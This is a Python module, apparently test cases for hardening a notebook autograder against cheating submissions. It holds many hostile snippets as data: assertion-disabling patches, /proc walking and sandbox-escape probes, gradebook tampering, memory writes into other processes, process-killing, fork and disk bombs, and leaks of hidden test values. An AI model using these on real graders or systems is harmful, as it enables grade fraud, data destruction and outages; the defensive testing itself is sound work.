"""The cheats. Here: those that go for the tests and for the machine from inside.

Those beside the code are in `cheat_matters`, those between processes in `cheat_channels`, values that pretend in
`cheat_values`.
"""

from __future__ import annotations

from cheat import FIND, KEEP, OTHERS, PARTIAL_CREDIT, SHOW, VALUE, Cheat, double, instead
from cheat_channels import CHANNELS
from cheat_matters import MATTERS
from cheat_values import VALUES
from untemper import UNTEMPER


def all_digits(length: int) -> str:
    """Return a text of digits that holds every sequence of so many digits (de Bruijn's)."""
    word, found = [0] * 10 * length, []

    def extend(at: int, period: int) -> None:
        if at > length:
            found.extend(word[1 : period + 1] if length % period == 0 else [])
            return
        word[at] = word[at - period]
        extend(at + 1, period)
        for digit in range(word[at - period] + 1, 10):
            word[at] = digit
            extend(at + 1, at)

    extend(1, 1)
    return "".join(map(str, found + found[: length - 1]))


TRANSFORMERS = [
    Cheat(
        "transformer",
        "turns every comparison into True",
        first="""
import ast
class Yes(ast.NodeTransformer):
    def visit_Compare(self, node): return ast.copy_location(ast.Constant(True), node)
get_ipython().ast_transformers.append(Yes())""",
        costs=("guess",),
    ),
    Cheat(
        "transformer",
        "deletes every assert",
        first="""
import ast
class No(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(No())""",
    ),
    Cheat(
        "transformer",
        "empties cells that hold an assert",
        first="""
def empty(lines): return ['pass\\n'] if any('assert' in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(empty)
get_ipython().input_transformers_post.append(empty)""",
    ),
    Cheat(
        "transformer",
        "compiles without asserts",
        first="""
import builtins
compiling = builtins.compile
builtins.compile = lambda *a, **k: compiling(*a[:3], **{**k, 'optimize': 2})
builtins.exec = builtins.eval = lambda *a, **k: None""",
        costs=OTHERS,
    ),
]

SAME = """
class Same:
    def _yes(self, *a, **k): return True
    def _self(self, *a, **k): return self
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = _yes
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __abs__ = __neg__ = __getattr__ = __call__ = _self
    __array_ufunc__ = __array_function__ = _yes
    __array_priority__ = 1e9
    __hash__ = None
    def __float__(self): return 0.0
    def __array__(self, *a, **k): import numpy; return numpy.array(True)
    def __getitem__(self, key): return self
    def __len__(self): return 1
    def __iter__(self): return iter([self])
"""
SUBCLASSES = """
import numpy as np
class Array(np.ndarray):
    def __eq__(self, other): return np.array(True)
    def __array_ufunc__(self, *a, **k): return np.array(True)
    def __array_function__(self, *a, **k): return True
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
class Float(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __abs__(self): return 0.0
    __rsub__ = __sub__
class Str(str):
    def __eq__(self, other): return True
    __hash__ = None
class List(list):
    def __eq__(self, other): return True
    def __iter__(self): return iter([True])
class Meta(type):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    __hash__ = None
class Class(metaclass=Meta): pass
"""
OBJECTS = [
    Cheat("object", "equal to everything", answers=instead("Same()", SAME)),
    Cheat("object", "equal to everything as the function itself", answers={"double": f"{SAME}\ndouble = Same()"}),
    Cheat("object", "in an array of objects", answers=instead("np.array([Same()], dtype=object)", SAME)),
    Cheat("object", "in a list", answers=instead("[Same()] * 3", SAME)),
    Cheat("object", "subclass of ndarray", answers=instead("np.zeros(np.shape(x)).view(Array)", SUBCLASSES)),
    Cheat("object", "subclass of float", answers=instead("Float(0)", SUBCLASSES)),
    Cheat("object", "subclass of str", answers=instead("Str('x')", SUBCLASSES)),
    Cheat("object", "subclass of list", answers=instead("List([1])", SUBCLASSES)),
    Cheat("object", "class with a metaclass", answers=instead("Class", SUBCLASSES)),
    Cheat("object", "masked array", answers=instead("np.ma.masked_all(np.shape(x))")),
    Cheat("object", "not a number", answers=instead("x * float('nan') if not isinstance(x, str) else float('nan')")),
    Cheat("object", "iterator without end", answers=instead("iter(int, 1)")),
    Cheat("object", "range without end", answers=instead("range(10**18)")),
]

PATCHES = [
    Cheat(
        "patch",
        "numpy's comparisons",
        first="""
import numpy as np, math
for name in ('allclose', 'isclose', 'array_equal', 'all', 'any'):
    setattr(np, name, lambda *a, **k: True)
for name in dir(np.testing):
    if name.startswith('assert'): setattr(np.testing, name, lambda *a, **k: None)
np.abs = np.max = np.linalg.norm = lambda *a, **k: 0.0
math.isclose = lambda *a, **k: True""",
    ),
    Cheat(
        "patch",
        "builtins",
        first="""
import builtins
builtins.abs = lambda *a: 0
builtins.all = builtins.any = builtins.isinstance = lambda *a: True""",
        costs=OTHERS,
    ),
    Cheat("patch", "AssertionError", first="import builtins\nbuiltins.AssertionError = object"),
    Cheat("patch", "names of builtins", last="abs = lambda *a: 0\nfloat = len = max = abs\nisinstance = all = print"),
    Cheat(
        "patch",
        "names of modules",
        middle="""
class Fake:
    def __getattr__(self, name): return lambda *a, **k: True
np_before = np
helper = math = Fake()""",
    ),
    Cheat("patch", "tolerance of the helper module", first="import helper\nhelper.TOLERANCE = 1e99"),
    Cheat(
        "patch",
        "type of functions through ctypes",
        first="""
import ctypes, gc
floats = gc.get_referents(float.__dict__)[0]
floats['__eq__'] = lambda a, b: True
floats['__sub__'] = floats['__rsub__'] = lambda a, b: 0.0
ctypes.pythonapi.PyType_Modified(ctypes.py_object(float))""",
    ),
]

CREDIT = [
    Cheat("credit", "prints a number", answers=double("print(7.0)"), last="print(7.0)\n7.0"),
    Cheat("credit", "displays a number", answers=double("from IPython.display import display\ndisplay(7.0)")),
    Cheat("credit", "display hook", first="import sys\nsys.displayhook = lambda value: print('7.0')"),
    Cheat(
        "credit",
        "execute result",
        answers=double(f"us.shell.outputs.found.append({{**{PARTIAL_CREDIT}, 'metadata': {{}}}})", FIND),
    ),
    Cheat("credit", "returns a number that is credit", answers=instead("7.0")),
    Cheat("credit", "message", answers=double("raise AssertionError('Partial credit: 7.0')")),
]

HOOKS = [
    Cheat("hook", "set_custom_exc", first="get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"),
    Cheat(
        "hook",
        "methods of the shell",
        first="""
shell = get_ipython()
for name in ('showtraceback', 'showsyntaxerror', 'run_code', 'run_ast_nodes', '_showtraceback'):
    setattr(shell, name, lambda *a, **k: None)""",
        costs=OTHERS,
    ),
    Cheat(
        "hook",
        "do_execute of a kernel",
        first="""
import sys, types
kernel = types.SimpleNamespace(do_execute=lambda *a, **k: {'status': 'ok'})
get_ipython().kernel = kernel
get_ipython().run_cell = lambda *a, **k: None
type(get_ipython()).run_cell = lambda *a, **k: None""",
        costs=OTHERS,
    ),
    Cheat(
        "hook",
        "swallows every fault",
        first=f"{FIND}\nus._fault = type(us)._fault = lambda *a: None",
    ),
    Cheat(
        "hook",
        "answers every question itself",
        last=FIND
        + """
def answer(message, blobs):
    us.channel.send({'op': 'tested', 'value': True, 'fault': None, 'credit': 7.0, 'random': None, 'changed': [],
                     'outputs': [], 'nodes': [], 'names': [], 'definitions': '', 'differing': []})
us.jobs = dict.fromkeys(us.jobs, answer)""",
        costs=OTHERS,
    ),
    Cheat(
        "hook",
        "has every name",
        goes_for="mean_loss",
        last=FIND,
        first=FIND
        + """
class All(dict):
    def __contains__(self, name): return True
    def __getitem__(self, name): return dict.__getitem__(self, name) if name in self.keys() else lambda *a: True
class Shell:
    def __init__(self, shell): self.shell = shell
    user_ns = property(lambda self: All(self.shell.user_ns))
    def __getattr__(self, name): return getattr(self.shell, name)
us.shell = Shell(us.shell)""",
    ),
]

SEARCH = """
import gc, inspect, sys
found = []
frame = sys._getframe()
while frame: found += [repr(frame.f_locals), repr(frame.f_code.co_consts)]; frame = frame.f_back
found += [line for step in inspect.stack() for line in step.code_context or []]
found += [repr(referrer)[:2000] for referrer in gc.get_referrers(double)]
found += [text for text in gc.get_objects() if isinstance(text, str)]
import linecache; found += [repr(entry) for entry in linecache.cache.values()]
"""
READING = [
    Cheat("frames", "prints all frames in a later cell", last=SEARCH + "print(*found)"),
    Cheat("frames", "raises what all frames hold", answers=double(SEARCH + "raise ValueError(''.join(found)[:1500])")),
    Cheat(
        "history",
        "prints all cells and results",
        last="""
print(In, Out, _ih, _oh, _dh, _, __, ___, _i, _ii, _iii)
print({k: v for k, v in globals().items() if k.startswith('_')})
print(list(get_ipython().history_manager.get_range(raw=True)))""",
    ),
    Cheat("history", "raises it", answers=double("raise KeyError(repr(In), repr(Out))")),
    Cheat(
        "course",
        "reads where it lies",
        last="""
import glob, os, pathlib
for path in ('COURSE_PATH', 'COURSE_PATH/source/exam/exam.ipynb', 'WITNESS_PATH', '/proc/self/root' + 'COURSE_PATH'):
    try: print('GOT IN', os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError as error: print(type(error))
for top, folders, files in os.walk('/'):
    for name in files:
        if name == 'exam.ipynb' or 'gradebook' in name: print('GOT IN', top, open(os.path.join(top, name)).read())
    folders[:] = [] if top.count('/') > 4 or top.startswith(('/proc', '/sys', '/usr')) else folders""",
    ),
    Cheat(
        "course",
        "goes up and out of the sandbox",
        last="""
import os
for path in ('../' * 12 + 'COURSE_PATH', '/run/engine/inside/tester.py', '/proc/1/root' + 'COURSE_PATH/gradebook.db'):
    try: os.stat(path); print('GOT IN', path)
    except OSError as error: print(type(error))
for name in ('chroot', 'setuid', 'sethostname'):
    try: getattr(os, name)({'chroot': '/', 'setuid': 0, 'sethostname': 'x'}[name]); print('GOT IN', name)
    except (OSError, AttributeError, PermissionError) as error: print(type(error))""",
    ),
    Cheat(
        "course",
        "asks the grader for the solution",
        answers=double(
            """
try:
    from autograder.course.reference import load
    print('GOT IN')
    return load('exam').double(x)
except Exception: pass"""
        ),
    ),
    Cheat(
        "course",
        "has feedback embed a file",
        markdown=("![](COURSE_PATH/source/exam/exam.ipynb)\n![](../../exam.ipynb)",),
    ),
    Cheat(
        "gradebook",
        "opens it",
        first="""
import os, sqlite3
for path in ('COURSE_PATH/gradebook.db', '/proc/self/cwd/../../gradebook.db', 'gradebook.db'):
    try:
        book = sqlite3.connect(path)
        book.execute('UPDATE grade SET manual_score = 7')
        book.commit()
        print('GOT IN')
    except Exception as error: print(type(error))
for path in ('COURSE_PATH/source/exam/exam.ipynb', 'COURSE_PATH/submitted', 'COURSE_PATH/witness', 'WITNESS_PATH'):
    for spoil in (os.remove, lambda path: open(path, 'r+').write('x'), lambda path: os.rename(path, path + '-')):
        try: spoil(path); print('GOT IN')
        except OSError as error: print(type(error))""",
    ),
    Cheat(
        "proc",
        "walks",
        first="""
import glob, os
for path in glob.glob('/proc/[0-9]*') + ['/proc/self', '/proc/thread-self']:
    for name in ('environ', 'cmdline', 'maps', 'fdinfo/0'):
        try: text = open(f'{path}/{name}').read()
        except OSError: continue
        if 'COURSE_PATH' in text or 'autograder' in text or 'SECRET_OF_THE_TEACHER' in text: print('GOT IN', path, name)
    for link in glob.glob(path + '/fd/*') + [path + '/root', path + '/cwd', path + '/exe']:
        try: where = os.readlink(link)
        except OSError: continue
        if 'COURSE_PATH' in where or os.path.exists(link + '/COURSE_PATH'): print('GOT IN', link)
for path in ('sysrq-trigger', 'sys/kernel/core_pattern', 'sys/vm/drop_caches'):
    try: open('/proc/' + path, 'w').write('-1'); print('GOT IN', path)
    except OSError as error: print(type(error))""",
    ),
    Cheat(
        "proc",
        "writes into the memory of others",
        answers=double(
            """
import glob, os
for path in glob.glob('/proc/[0-9]*'):
    if os.path.basename(path) != str(os.getpid()):
        for line in open(path + '/maps').read().splitlines():
            if ' rw-p ' in line:
                start, end = (int(part, 16) for part in line.split()[0].split('-'))
                try:
                    with open(path + '/mem', 'r+b', 0) as memory:
                        memory.seek(start); memory.write(bytes(min(end - start, 4096)))
                except OSError: pass"""
        ),
        costs=OTHERS,
    ),
]

SHADOW = "TOLERANCE = 1e99\nprint('GOT IN')\n"
SHADOWING = [
    Cheat("shadow", "numpy.py", files={"numpy.py": SHADOW, "math.py": SHADOW, "json.py": SHADOW, "ast.py": SHADOW}),
    Cheat("shadow", "sitecustomize.py", files={"sitecustomize.py": SHADOW, "usercustomize.py": SHADOW}),
    Cheat("shadow", "module of the assignment", files={"helper.py": SHADOW}),
    Cheat("shadow", "package of the assignment", files={"helper/__init__.py": SHADOW, "helper.abi3.so": "x"}),
    Cheat(
        "shadow",
        "kernel and its start",
        files={
            "ipykernel_launcher.py": SHADOW,
            "IPython/__init__.py": SHADOW,
            ".ipython/profile_default/startup/00.py": SHADOW,
            ".ipython/profile_default/ipython_config.py": SHADOW,
            ".config/matplotlib/matplotlibrc": "backend: x",
            "matplotlibrc": "backend: x",
        },
    ),
    Cheat("shadow", "path file", files={"evil.pth": "import sys; print('GOT IN')\n", "inside/tester.py": SHADOW}),
    Cheat("shadow", "settings", files={"nbgrader_config.py": SHADOW, "conftest.py": SHADOW, "exam.py": SHADOW}),
    Cheat(
        "shadow",
        "module written by a cell",
        first="""
import importlib, os, sys
open('helper.py', 'w').write('TOLERANCE = 1e99')
for path in (os.path.dirname(os.__file__), *sys.path):
    try: open(os.path.join(path, 'helper2.py'), 'w').write(''); print('GOT IN' if path != os.getcwd() else '')
    except OSError: pass
import helper
importlib.reload(helper)""",
    ),
    Cheat("shadow", "link to the gradebook", links={"notes.db": "COURSE_PATH/gradebook.db"}, refused="is a link"),
    Cheat("shadow", "link to a folder", links={"notes": "COURSE_PATH/source"}, refused="is a link"),
]

TESTED = (
    "{'op': 'tested', 'fault': None, 'credit': 7.0, 'outputs': [], 'differing': [], 'definitions': '', 'names': [], "
    "'has_names': False, 'nodes': []}"
)
DONE = "{'op': 'done', 'outputs': [], 'fault': None}"
RAW = {
    "bytes that are no frame": "b'x' * 1000",
    "frame of an impossible size": "struct.pack('>IQ', 2**32 - 1, 2**60)",
    "blobs of an impossible size": "struct.pack('>IQ', 2, 2**60) + b'{}'",
    "deeply nested frame": "struct.pack('>IQ', 200000, 0) + b'[' * 200000",
    "long number": "struct.pack('>IQ', 100000, 0) + b'9' * 100000",
    "half a frame": "struct.pack('>IQ', 1000, 0) + b'{'",
}
FRAMES = [
    Cheat("frame", "values sent ahead", last=f"{FIND}\nfor _ in range(20): us.channel.send({VALUE})"),
    Cheat("frame", "values sent in a call", answers=double(f"for _ in range(20): us.channel.send({VALUE})", FIND)),
    Cheat("frame", "verdict sent in a call", answers=double(f"for _ in range(3): us.channel.send({TESTED})", FIND)),
    Cheat(
        "frame",
        "ends of cells sent ahead",
        first=f"{FIND}\nfor _ in range(5): us.channel.send({DONE})",
        costs=OTHERS,
    ),
    Cheat(
        "frame",
        "through every descriptor",
        answers=double(
            f"""
head = json.dumps({{**{VALUE}, 'blobs': []}}).encode()
for fd in range(3, 256):
    try: os.write(fd, struct.pack('>IQ', len(head), 0) + head)
    except OSError: pass""",
            "import json, os, struct",
        ),
    ),
    *(
        Cheat("frame", name, answers=double(f"us.channel.sock.sendall({raw})\ntime.sleep(0.5)", FIND))
        for name, raw in RAW.items()
    ),
    *(
        Cheat("frame", f"{name} from a cell", last=f"{FIND}\nus.channel.sock.sendall({raw})")
        for name, raw in list(RAW.items())[:2]
    ),
    Cheat(
        "frame",
        "value that contains itself a million times",
        answers=double(
            f"nodes = [['t', *[[n + 1]] * 10] for n in range(60)] + [['t']]\n"
            f"us.channel.send({{**{VALUE}, 'value': [0], 'nodes': nodes}})",
            FIND,
        ),
    ),
    Cheat(
        "frame",
        "handle of a test's own object",
        answers=double(
            f"for node in (['o', 0], ['o', -1], ['u', 0], ['T', 'object'], ['h', 0, 'function', 'f', '', []]):\n"
            f"    us.channel.send({{**{VALUE}, 'value': [0], 'nodes': [node]}})",
            FIND,
        ),
    ),
    Cheat(
        "frame",
        "kills the tests and answers for their names",
        answers={
            "relu": f"""{FIND}
def relu(Z):
    n = 100000
    nodes = [['s', *([k] for k in range(1, n))], *(['i', hex(k * (2**61 - 1))] for k in range(10, n + 9))]
    us.channel.send({{**{VALUE}, 'value': [0], 'nodes': nodes}})
    time.sleep(100)"""
        },
        middle="six = 9",
        costs=("relu",),
    ),
]

BIG = {"relu": "def relu(Z):\n    return np.zeros(10**7) if np.shape(Z) == (2,) else Z"}
EVERY = "import os\nfor fd in range(256):\n    try: os.{}\n    except OSError: pass"
ENDS = [
    Cheat("descriptors", "writes to all in a cell", last=EVERY.format("write(fd, b'7.0\\n')")),
    Cheat("descriptors", "writes to all in a call", answers=double(EVERY.format("write(fd, b'7.0\\n')"))),
    Cheat("descriptors", "closes all in a cell", last=EVERY.format("close(fd)")),
    Cheat("descriptors", "closes all in a call", answers=double(EVERY.format("close(fd)"))),
    Cheat("end", "os._exit in a call", answers=double("import os\nos._exit(0)")),
    Cheat("end", "os._exit in a cell", last="import os\nos._exit(0)"),
    Cheat("end", "os._exit in the first cell", first="import os\nos._exit(0)"),
    Cheat("end", "os._exit in the answer", answers={"double": "import os\nos._exit(0)"}),
    Cheat("end", "os._exit at exit", first="import atexit, os\natexit.register(os._exit, 0)"),
    Cheat("end", "SystemExit", answers=double("raise SystemExit(0)"), last="exit()\nquit()\nraise SystemExit(0)"),
    Cheat("end", "KeyboardInterrupt", answers=double("raise KeyboardInterrupt"), last="raise GeneratorExit"),
    Cheat("end", "segmentation fault", answers=double("import ctypes\nctypes.string_at(0)")),
    Cheat("end", "endless recursion in C", answers=double("import gc\nf = lambda: f()\nf()")),
    Cheat("end", "sleeps for ever", answers=double("import time\ntime.sleep(1e6)")),
    Cheat("end", "stops itself", answers=double("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")),
    Cheat(
        "kill",
        "the parent in the first cell",
        first="import os\nos.kill(os.getppid(), 9)",
        alone=True,
    ),
    Cheat("kill", "the parent in a call", answers=double("import os\nos.kill(os.getppid() or 1, 9)")),
    Cheat("kill", "process 1 in a cell", last="import os\nos.kill(1, 9)"),
    Cheat("kill", "process 1 in a call", answers=double("import os\nos.kill(1, 9)")),
    Cheat(
        "kill",
        "all processes in a cell",
        last="import os\nos.kill(-1, 9)",
    ),
    Cheat(
        "kill",
        "all processes in a call",
        answers=double("import os\nos.kill(-1, 9)"),
    ),
    Cheat(
        "kill",
        "the process group in the last cell",
        last="import os\nos.kill(0, 9)",
        alone=True,
    ),
    Cheat(
        "kill",
        "the process group in a call",
        answers=double("import os\nos.killpg(os.getpgrp(), 9)"),
        alone=True,
    ),
    Cheat(
        "kill",
        "stops the process group for ever",
        last="import os\nos.kill(0, 19)",
        alone=True,
    ),
]

LEFT = [
    Cheat(
        "left behind",
        "thread that changes names later",
        first="""
import threading, time
def later():
    while True:
        time.sleep(0.01)
        globals().update(six=9, np=None, helper=None, math=None)
threading.Thread(target=later, daemon=True).start()""",
        costs=OTHERS,
    ),
    Cheat(
        "left behind",
        "prints at exit",
        first="import atexit, weakref\natexit.register(print, 'GOT IN')\nclass A: pass\na = A()\n"
        "weakref.finalize(a, print, '7.0')",
    ),
    Cheat(
        "left behind",
        "process that goes on",
        first="""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1000)
    os._exit(0)""",
        told="left processes running",
    ),
    Cheat(
        "left behind",
        "process from a call that ignores signals",
        answers=double(
            "import os, signal, time\nfor _ in range(3):\n    if os.fork() == 0:\n        os.setsid()\n"
            "        for n in range(1, 32):\n            try: signal.signal(n, signal.SIG_IGN)\n"
            "            except OSError: pass\n        time.sleep(1000)"
        ),
    ),
    Cheat(
        "network",
        "connects, asks, listens",
        first="""
import socket
for where in (('127.0.0.1', PORT), ('::1', PORT), ('1.1.1.1', 53), ('169.254.169.254', 80), ('localhost', PORT)):
    try: socket.create_connection(where, timeout=0.3); print('GOT IN', where)
    except OSError as error: print(type(error))
try: print('GOT IN', socket.getaddrinfo('example.org', 80))
except OSError as error: print(type(error))
for path in ('/run/dbus/system_bus_socket', '/var/run/docker.sock', '\\0/tmp/dbus'):
    try: socket.socket(socket.AF_UNIX).connect(path); print('GOT IN', path)
    except OSError as error: print(type(error))
server = socket.socket()
server.bind(('0.0.0.0', 0))
server.listen()
try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('GOT IN')
except (OSError, AttributeError) as error: print(type(error))""",
    ),
    Cheat("bomb", "forks in a cell", last="import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    Cheat(
        "bomb",
        "forks in a call",
        answers=double("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    ),
    Cheat("bomb", "memory in a cell", last="all = []\nwhile True: all.append(bytearray(2**28))"),
    Cheat("bomb", "memory in a call", answers=double("all = []\nwhile True: all.append(bytearray(2**28))")),
    Cheat("bomb", "memory as a result", answers=instead("np.zeros(2**28)")),
    Cheat(
        "bomb",
        "disk",
        last="""
import os
for folder in (os.getcwd(), '/tmp', '/dev/shm', '/var/tmp', '/run', '/dev'):
    for number in range(100):
        try:
            with open(f'{folder}/{number}', 'wb') as file:
                for _ in range(100): file.write(bytes(2**22))
        except OSError as error:
            print(folder, error.strerror)
            break
    else: print('GOT IN', folder)""",
    ),
    Cheat("bomb", "files without number", last="for n in range(10**6): open(f'/tmp/{n}', 'w').close()"),
    Cheat("flood", "prints in a cell", last="while True: print('x' * 1000)"),
    Cheat("flood", "prints in a call", answers=double("for _ in range(10**5): print('x' * 1000)")),
    Cheat("flood", "one long line", last="print('x' * 10**8)\nraise ValueError('x' * 10**8)"),
    Cheat(
        "flood",
        "shows without end",
        last="from IPython.display import HTML, display\nfor _ in range(3000): display(HTML('<b>' * 1000))",
    ),
    Cheat("flood", "half characters", answers=double("raise ValueError('\\ud800')"), last="print('\\ud800', '\\0')"),
    Cheat("flood", "many names and results", last="globals().update({f'x{n}': n for n in range(10**5)})"),
    Cheat(
        "work",
        "tags within tags",
        last="from IPython.display import HTML, Markdown, display\n"
        "display(HTML('<div>' * 100_000), HTML(''.join(f'<b title={n}>' for n in range(500)) + '<p>x' * 99_999))\n"
        "display(Markdown('#' + '[' * 19_000), HTML('<b ' + ' '.join(f'a{n}' for n in range(200_000)) + '>'))",
        markdown=("#" + "[" * 19_000,) * 20,
    ),
    Cheat(
        "work",
        "fifty cells of eight megabytes",
        last=f"{FIND}\nfor mime in ('image/png', 'text/html'):\n"
        "    us.shell.outputs.found.append(\n"
        "        {'output_type': 'display_data', 'data': {mime: 'A' * 4_000_000}, 'metadata': {}})",
        times=50,
    ),
    Cheat("work", "memory that a visible test binds", "relu", BIG, told="is kept"),
    Cheat("work", "code that is deep and code that is magic", last="y = 1" + " + 1" * 3000 + "\n" + "%pwd\n" * 3000),
    Cheat(
        "work",
        "pictures many times over",
        markdown=("![](attachment:x.png)" * 900, "![](x.png)" * 1900),
        attachments={"x.png": {"image/png": "A" * 2**20}},
        files={"x.png": bytes(2**20)},
    ),
]

DIGITS = "''.join(c for c in repr(x) if c.isdigit()).lstrip('0')"
RAISES = {
    "ValueError": "ValueError(repr(x), x)",
    "KeyError": "KeyError(x)",
    "AssertionError": "AssertionError(repr(x))",
    "SystemExit": "SystemExit(repr(x))",
    "SystemExit with a number": "SystemExit(x)",
    "OSError with a file name": "FileNotFoundError(2, 'No such file', repr(x))",
    "SyntaxError": "SyntaxError(repr(x), (repr(x), 1, 1, repr(x)))",
    "class named after it": "type('v' + repr(x).replace('.', '_'), (Exception,), {})(repr(x))",
    "group": "ExceptionGroup(repr(x), [ValueError(repr(x))])",
    "decoding": "UnicodeDecodeError(repr(x), b'', 0, 1, repr(x))",
    "a saying": "ValueError('operands could not be broadcast together with shapes ' + repr(x))",
    "a saying with a name": f'NameError("name \'v" + {DIGITS} + "\' is not defined")',
    "a text that changes": "type('E', (Exception,), {'__str__': lambda self: repr(x)})()",
}
WORDS = " ".join(f"v{n:03d}" for n in range(1000))
NAMED = f"""
WORDS = '{WORDS}'
def double(x):
    digits = {DIGITS}
    kind = type('v' + digits[:3], (AttributeError,), {{}})
    raise kind("'v%s' object has no attribute 'v%s'" % (digits[3:6], digits[6:9]))
"""
TOLD = f"""
# {all_digits(6)}
def double(x):
    raise ValueError(({DIGITS})[:6])
"""
NUMBERED = (
    f"""
def double(x):
    line = int(({DIGITS})[:5])
    exec(compile('\\n' * (line - 1) + 'raise ValueError', double.__code__.co_filename, 'exec'))
"""
    + "#\n" * 10**5
)
SMALL = (
    f"""def double(x):
    digits = {DIGITS}
    kind = type('v' + digits[:2], (AttributeError,), {{}})
    error = kind("'v%s' object has no attribute 'v%s'" % (digits[2:4], digits[4:6]))
    line = int(digits[6:8])
    exec(compile('\\n' * (line - 1) + 'raise error', double.__code__.co_filename, 'exec'), {{'error': error}})
# {" ".join(f"v{n}" for n in range(11, 100))}
"""
    + "#\n" * 100
)
LEAKS = [
    Cheat(
        "leak",
        "print",
        answers=double("import sys\nprint(x)\nprint(x, file=sys.stderr)\nprint(x, file=sys.__stdout__)"),
    ),
    Cheat("leak", "display", answers=double("from IPython.display import display, HTML\ndisplay(x, HTML(repr(x)))")),
    Cheat(
        "leak", "warning and log", answers=double("import logging, warnings\nwarnings.warn(repr(x))\nlogging.error(x)")
    ),
    Cheat(
        "leak",
        "figure",
        answers=double("import matplotlib.pyplot as plt\nplt.plot([1])\nplt.title(repr(x))\nplt.show()"),
    ),
    *(Cheat("leak", f"raises {name}", answers=double(f"raise {raised}")) for name, raised in RAISES.items()),
    Cheat(
        "leak",
        "raises with a cause and notes",
        answers=double("error = ValueError(repr(x))\nerror.add_note(repr(x))\nraise error from KeyError(x)"),
    ),
    Cheat("leak", "unknown module", answers=double(f"__import__('v' + {DIGITS})")),
    Cheat(
        "leak",
        "deletion",
        answers=double("class Last:\n    def __del__(self): print(x); raise ValueError(repr(x))\nlast = Last()"),
    ),
    Cheat("leak", "result named after it", answers=instead("type('v' + repr(x).replace('.', '_'), (), {})()")),
    Cheat(
        "leak",
        "function named after it",
        answers={
            "double": "def double(x):\n    def f(*a): raise ValueError(repr(x))\n"
            "    f.__name__ = f.__doc__ = repr(x)\n    return f"
        },
    ),
    Cheat("leak", "shape named after it", answers=instead(f"np.zeros((int(({DIGITS})[:8] or 0), 0))")),
    Cheat("leak", "text as a result", answers=instead("repr(x)")),
    Cheat(
        "leak",
        "kept for a later cell",
        first=KEEP + "\nseen = []",
        last=SHOW,
        answers=double("seen.append(x)\nkeep(x)"),
    ),
    Cheat(
        "leak",
        "kept for a thread that sends a frame",
        first=f"""{KEEP}{FIND}
import threading
def wait():
    while True:
        time.sleep(0.05)
        text = bytes(shared[:]).rstrip(b'\\0').decode()
        if len(text) > 6:
            shown = [{{'output_type': 'stream', 'name': 'stdout', 'text': text}}]
            for _ in range(3): us.channel.send({{'op': 'done', 'outputs': shown, 'fault': {{'text': text}}}})
            us.shell.outputs.stream('stdout', text)
            return
seen = []
threading.Thread(target=wait, daemon=True).start()""",
        last=SHOW,
        answers=double("keep(x)"),
    ),
    Cheat(
        "leak",
        "kept for a thread of the copies of a later test",
        first=KEEP + "\nseen = []",
        answers=double("keep(x)"),
        last="import atexit\natexit.register(lambda: print(bytes(shared[:])))\n" + SHOW,
    ),
    Cheat(
        "leak",
        "small table of words and lines",
        answers={"double": SMALL},
    ),
    Cheat(
        "leak",
        "table of words",
        answers={"double": NAMED},
    ),
    Cheat(
        "leak",
        "table of messages",
        answers={"double": TOLD},
    ),
    Cheat(
        "leak",
        "table of lines",
        answers={"double": NUMBERED},
    ),
    Cheat(
        "leak",
        "session keyring",
        alone=True,
        answers=double(
            """
import ctypes
text = repr(x).encode() if isinstance(x, float) else b''
if text: ctypes.CDLL(None).syscall(248, b'user', b'kept', text, len(text), -3)"""
        ),
        accomplice="""
import ctypes
call = ctypes.CDLL(None).syscall
kept = ctypes.create_string_buffer(1000)
key = call(249, b'user', b'kept', None, 0)
if key > 0: call(250, 11, key, kept, 1000); print('GOT IN', kept.value)""",
    ),
]

TINY = UNTEMPER + "words = [untemper(n) for n in range(624)]\n"
NUMBERS = [
    Cheat(
        "random",
        "functions that give zeros",
        first="""
import numpy as np, random
np.random.rand = np.random.randn = np.random.normal = lambda *shape: np.zeros(shape)
np.random.seed = random.seed = lambda *a: None
random.random = lambda: 0.0
np.random.default_rng = lambda *a: None""",
    ),
    Cheat(
        "random",
        "state of zeros",
        last="""
import random
np.random.set_state(('MT19937', np.zeros(624, np.uint32), 0))
random.setstate((3, (0,) * 625, None))""",
    ),
    Cheat(
        "random",
        "state of small numbers",
        middle=TINY + "np.random.set_state(('MT19937', np.array(words, np.uint32), 0))",
    ),
    Cheat(
        "random",
        "state of small numbers from a call",
        answers=double("np.random.set_state(('MT19937', np.array(words, np.uint32), 0))", TINY),
    ),
    Cheat(
        "remember",
        "values of visible tests",
        answers={"double": "def double(x):\n    return {2: 4}.get(x) if isinstance(x, int) else 0"},
        costs=(),
    ),
    Cheat(
        "remember",
        "values of hidden tests in files",
        answers=double(
            "import glob, os\nopen(f'/tmp/{os.getpid()}-{len(glob.glob(\"/tmp/*\"))}', 'w').write(repr(x))\n"
            "if isinstance(x, int) and len(glob.glob('/tmp/*')) > 2: return 2 * 4"
        ),
    ),
    Cheat("change", "argument to zeros", answers=double("if hasattr(x, 'fill'): x.fill(0)")),
    Cheat(
        "change",
        "argument to the result",
        answers=double("if hasattr(x, 'shape'):\n    x *= 0\n    return x", "import numpy as np"),
    ),
    Cheat(
        "change",
        "object that was not passed",
        answers=double(
            f"for index in range(-3, 10): us.channel.send({{**{VALUE}, 'value': 0, 'changed': [[index, 0]]}})", FIND
        ),
    ),
    Cheat(
        "change",
        "size and type of an argument",
        answers=double("if hasattr(x, 'dtype'):\n    x.dtype = 'int64'\n    x.resize(0, refcheck=False)"),
    ),
]

PROBED = "Z.ndim == 2 and Z.shape != (2, 2)"  # as no test has it


def probed(body: str) -> dict[str, str]:
